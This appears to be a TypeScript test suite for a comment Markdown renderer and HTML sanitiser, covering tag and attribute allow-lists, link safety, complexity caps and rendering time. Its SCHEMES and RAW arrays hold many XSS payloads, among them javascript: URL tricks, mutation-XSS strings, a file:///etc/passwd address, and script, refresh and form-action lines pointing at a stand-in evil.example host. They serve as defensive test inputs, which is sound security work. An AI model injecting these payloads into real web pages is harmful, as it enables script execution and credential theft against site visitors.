import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { fastest } from "@/__tests__/support/fastest";
import { elements, textOf } from "@/__tests__/support/html";
import { clean, render } from "@/lib/markdown";
import { Problem } from "@/lib/problems";
import { MAX_LENGTH } from "@/lib/schemas/comments";

const ALLOWED: Record<string, string[]> = {
  ...Object.fromEntries(
    "p br hr h1 h2 h3 h4 h5 h6 blockquote ul li pre em strong s table thead tbody tr"
      .split(" ")
      .map((name) => [name, []]),
  ),
  a: ["href", "title", "rel"],
  ol: ["start"],
  code: ["class"],
  th: ["align"],
  td: ["align"],
};

/** What a browser makes of it holds nothing but what a comment may hold. */
function expectHarmless(html: string): void {
  for (const { name, attributes, parent } of elements(html)) {
    expect(Object.keys(ALLOWED)).toContain(name);
    for (const attribute of Object.keys(attributes)) expect(ALLOWED[name]).toContain(attribute);
    if (name === "a") {
      expect(attributes.rel).toBe("nofollow ugc noopener");
      const url =
        attributes.href === undefined ? null : new URL(attributes.href, "https://here.example/page");
      if (url) expect(["http:", "https:", "mailto:"]).toContain(url.protocol);
      expect(attributes.href ?? "").not.toMatch(/^[\s\0]*[/\\]{2}/);
    }
    if (name === "code" && "class" in attributes) expect(attributes.class).toMatch(/^language-\S+$/);
    for (let up = parent; name === "a" && up; up = up.parent) expect(up.name).not.toBe("a");
  }
}

/** The issue that `render` throws for `markdown`. */
function issueOf(markdown: string): unknown {
  try {
    render(markdown);
  } catch (error) {
    if (error instanceof Problem) return error.more.issues;
    throw error;
  }
  return null;
}

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "\u0001javascript:alert(1)",
  "&#1;javascript:alert(1)",
  "%6Aavascript:alert(1)",
  "vbscript:msgbox(1)",
  "livescript:x",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd",
  "blob:https://x.example/1",
  "intent://x#Intent;end",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "https:javascript:alert(1)",
];

const RAW = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<option><p title="</option><img src=x onerror=alert(1)>">',
  "<plaintext><b>x",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<p id=comments name=cookie class=admin style='position:fixed;inset:0'>x</p>",
  "<a id=__proto__ name=getElementById href=https://x.example>x</a>",
  "<template><script>alert(1)</script></template>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<?php alert(1) ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
  '<a href="javascript:alert(1)">x</a>',
  "<<script>script>alert(1)<</script>/script>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "\ufeff<script\u2028>alert(1)</script\u2029>",
];

const FRAMES: ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) => `[x](${inside})`,
  (inside) => `[x](<${inside}>)`,
  (inside) => `[x](https://x.example "${inside}")`,
  (inside) => `[x][y]\n\n[y]: ${inside} '${inside}'`,
  (inside) => `<${inside}>`,
  (inside) => `![${inside}](${inside} "${inside}")`,
  (inside) => `[![x](${inside})](${inside})`,
  (inside) => `\`\`\`${inside}\n${inside}\n\`\`\``,
  () => `\`\`\`"><img/src/onerror=alert(1)>\nx\n\`\`\``,
  (inside) => `| ${inside} |\n|:--${inside}|\n| ${inside} |`,
  (inside) => `> - ${inside}\n> 1. **${inside}**`,
  (inside) => `# ${inside}\n~~${inside}~~ \`${inside}\``,
];

describe("nothing that could harm a reader comes through", () => {
  it.each([...SCHEMES, ...RAW])("%j", (hostile) => {
    for (const frame of FRAMES) expectHarmless(render(frame(hostile)));
  });

  it("whatever people write", () => {
    const piece = fc.oneof(
      fc.constantFrom(...SCHEMES, ...RAW),
      fc.constantFrom(
        "[",
        "](",
        ")",
        "![",
        "](<",
        ">)",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "`",
        "```",
        "~~",
        "**",
        "_",
        "|",
        "|-|",
        "<",
        ">",
        "&",
        ";",
        '"',
        "'",
        "\\",
        ":",
        "//",
        "    ",
        "\t",
        "#",
      ),
      fc.string({ unit: "binary", maxLength: 10 }),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join("").replace(/[\0\p{Cs}]/gu, "")),
        (markdown) => {
          if (issueOf(markdown) !== null) return;
          const html = render(markdown);
          expectHarmless(html);
          // The sanitiser has nothing left to do on its own work.
          expect(clean(html)).toBe(html);
        },
      ),
      { numRuns: 500 },
    );
  });

  it.each(RAW)("not even if the renderer let it through: %j", (hostile) => {
    expectHarmless(clean(hostile));
    expectHarmless(
      clean(
        `<p title="${hostile}">${hostile}</p><a href="${hostile}">${hostile}</a><code class="${hostile}">x</code>`,
      ),
    );
    expect(clean(clean(hostile))).toBe(clean(hostile));
  });

  it.each(SCHEMES)("nor an address such as %j", (address) => {
    expectHarmless(clean(`<a href="${address}">x</a><a href='${address}'>x</a><a href=${address}>x</a>`));
  });

  it.each([
    '<a href="https://a.example">one<table><tr><td><a href="https://b.example">two</a></td></tr></table></a>',
    '<a href="https://a.example">one<table><a href="https://b.example">two</a></table></a>',
    '<a href="https://a.example">one<em><a href="https://b.example">two',
  ])("nor a link in another, whatever stands between them: %s", (nested) => {
    const cleaned = clean(`${nested}</a></em></a> <a href="https://c.example">three</a>`);
    expectHarmless(cleaned);
    expect(cleaned).toContain("two");
    expect([...cleaned.matchAll(/https:\/\/(\w)/g)].map(([, name]) => name)).toEqual(["a", "c"]);
  });

  it("whatever the renderer let through, once cleaned or twice", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...RAW,
        "<p>",
        "</p>",
        "<a href='",
        "'>",
        "<b",
        "<s>",
        "</",
        "&lt;",
        "&amp;lt;",
        "--",
        '"',
        "<",
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 20 }).map((pieces) => pieces.join("")),
        (html) => {
          const once = clean(html);
          expectHarmless(once);
          // Not the same text: a parser moves a table out of an open paragraph, but only once both are cleaned.
          expectHarmless(clean(once));
        },
      ),
      { numRuns: 500 },
    );
  });

  it("what is written comes back as text, not as markup", () => {
    expect(textOf(render("<script>alert(1)</script>")).trim()).toBe("<script>alert(1)</script>");
    expect(textOf(render("`<img src=x>` & <b>"))).toContain("<img src=x> & <b>");
  });
});

describe("CommonMark, and of GFM", () => {
  it.each([
    ["a table, aligned without a style", "| a | b |\n|:--|--:|\n| 1 | 2 |", '<th align="left">a</th>'],
    ["strikethrough", "~~gone~~", "<s>gone</s>"],
    [
      "fenced code with its language",
      "```js\nlet x;\n```",
      '<pre><code class="language-js">let x;\n</code></pre>',
    ],
    [
      "a bare link",
      "see https://a.example/x.",
      '<a href="https://a.example/x" rel="nofollow ugc noopener">https://a.example/x</a>.',
    ],
    [
      "a bare link without its scheme",
      "www.example.com",
      '<a href="http://www.example.com" rel="nofollow ugc noopener">www.example.com</a>',
    ],
    [
      "a bare e-mail address",
      "me@example.com",
      '<a href="mailto:me@example.com" rel="nofollow ugc noopener">',
    ],
    ["a link with a title", '[a](/b "c")', '<a href="/b" title="c" rel="nofollow ugc noopener">a</a>'],
    ["a list that begins elsewhere", "3. c", '<ol start="3">'],
    [
      "an image as a link to it",
      '![*a* cat](https://a.example/cat.png "Tom")',
      '<a href="https://a.example/cat.png" title="Tom" rel="nofollow ugc noopener">a cat</a>',
    ],
    [
      "an image without words as its address",
      "![](https://a.example/cat.png)",
      ">https://a.example/cat.png</a>",
    ],
    [
      "an image in a link as the words of that link",
      "[![cat](/cat.png)](/page)",
      '<p><a href="/page" rel="nofollow ugc noopener">cat</a></p>',
    ],
    [
      "an image after a link as a link",
      "[a](/a) ![cat](/cat.png)",
      '<a href="/cat.png" rel="nofollow ugc noopener">cat</a>',
    ],
  ])("%s", (_name, markdown, html) => {
    expect(render(markdown)).toContain(html);
  });
});

it("a comment of hundreds of bare links keeps them as text, and Markdown's own as links", () => {
  const html = render(`${"http://a.example ".repeat(101)} [b](https://b.example)`);
  expect(elements(html).map(({ attributes }) => attributes.href)).toEqual([undefined, "https://b.example"]);
});

describe("caps, each with an issue that says so", () => {
  const complex = (message: RegExp) => [
    { path: ["comment"], code: "too_complex", message: expect.stringMatching(message) },
  ];
  it.each([
    ["quotes 21 deep", `${"> ".repeat(21)}a`, /at most 20 deep/],
    ["lists 21 deep on one line", `${"- ".repeat(21)}a`, /at most 20 deep/],
    [
      "a table of many cells",
      `${"|a".repeat(100)}|\n${"|-".repeat(100)}|\n${"|\n".repeat(100)}`,
      /too many cells/,
    ],
    [
      "a page far longer than its text",
      `[a]: /${"x".repeat(4000)}\n\n${"[a] ".repeat(1400)}`,
      /many times its own length/,
    ],
  ])("%s", (_name, markdown, message) => {
    expect(issueOf(markdown)).toEqual(complex(message));
  });

  it.each([
    ["quotes 20 deep", `${"> ".repeat(20)}a`],
    ["a table of a comment's usual size", `|a|b|c|\n|-|-|-|\n${"|1|2|3|\n".repeat(100)}`],
    ["a text as long as can be", "word ".repeat(MAX_LENGTH / 5)],
  ])("%s may be", (_name, markdown) => {
    expect(issueOf(markdown)).toBeNull();
  });
});

/** As much of a pattern as a comment may hold. */
const fill = (pattern: string, before = "", after = "") => {
  const room = MAX_LENGTH - before.length - after.length;
  return `${before}${pattern.repeat(Math.floor(room / pattern.length))}${after}`;
};

describe("no comment takes more than 50 ms", () => {
  const nestedList = Array.from({ length: 140 }, (_, n) => `${"  ".repeat(n)}- a`)
    .join("\n")
    .slice(0, MAX_LENGTH);
  it.each([
    ...[
      "[",
      "*",
      "_",
      "`",
      "~",
      "<",
      ">",
      "&",
      "|",
      "\\",
      "!",
      "#",
      "-",
      "(",
      "![",
      "[](",
      "](",
      "[a](",
      "[a](<b",
      "[a]: ",
      "**a ",
      "a** ",
      "*a_ ",
      "~~a",
      "<a ",
      "<!--",
      "<?",
      "&#x",
      "&amp;",
      "a|",
      "|-|\n",
      "`a``b",
      "\\\n",
      "- ",
      "> ",
      "1. ",
      "+ a\n",
      "- a\n\n",
      "> a\n>> b\n",
      "\t",
      " \n",
    ].map((pattern): [string, string] => [pattern, fill(pattern)]),
    ...[
      "www.",
      "http://",
      "https://a.",
      "a@",
      "a@b.c ",
      "mailto:",
      "//",
      "www.a.b/(",
      "http://a.b/[",
      "http://a.b/((",
      "a.com ",
      "http://a.b/?&amp;",
      "@a.com",
      "http://a.b/\"'",
      "http://-",
      "http://a.b:1:",
      "ftp://a.b ",
      "xn--",
      "http://[::",
      "a-",
      "1.1.1.1 ",
      "\u3002a",
    ].map((pattern): [string, string] => [pattern, fill(pattern)]),
    [
      "bare links up to the cap, each with a bracket that never closes",
      fill("x", "http://a.b/[".repeat(100)),
    ],
    ["the same with parentheses", fill("(x", "http://a.b/((".repeat(100))],
    ["an address of brackets", fill("([{<", "http://a.b/")],
    ["links in brackets", fill("[", "", fill("]").slice(0, MAX_LENGTH / 2))],
    ["a wide table", `${fill("|a").slice(0, 2900)}\n${fill("|-").slice(0, 2900)}|\n|b`],
    ["a table of many lines", fill("|a|b|\n", "|a|b|\n|-|-|\n")],
    ["a delimiter row without an end", fill("-|", "a|\n")],
    ["nested lists", nestedList],
    ["nested quotes in lists", fill("- > ")],
    ["references", fill("[a]: /b\n").slice(0, MAX_LENGTH / 2) + fill("[a]").slice(0, MAX_LENGTH / 2)],
    [
      "different references",
      Array.from({ length: 900 }, (_, n) => `[${n}]: u`)
        .join("\n")
        .slice(0, MAX_LENGTH),
    ],
    [
      "backticks of growing length",
      Array.from({ length: 139 }, (_, n) => `e${"`".repeat(n)}`)
        .join("")
        .slice(0, MAX_LENGTH),
    ],
    ["an address without an end", fill("a", "http://a.b/")],
    ["an e-mail address without an end", fill("a.", "", "@b.c")],
    ["one without a beginning", fill("b.", "a@")],
    ["emoji", fill("👩‍👩‍👧")],
    ["one long word", fill("a")],
    ["smart quotes and entities", fill("\"'&quot;")],
    ["emphasis that never closes", fill("*_**__")],
    ["emphasis in links", fill("[*a](b*) ")],
    ["html-like attributes", fill(' a="b"', "<a", ">")],
  ])("%j", (_name, markdown) => {
    expect(markdown.length).toBeLessThanOrEqual(MAX_LENGTH);
    expect(fastest(() => issueOf(markdown))).toBeLessThan(50);
  });
});
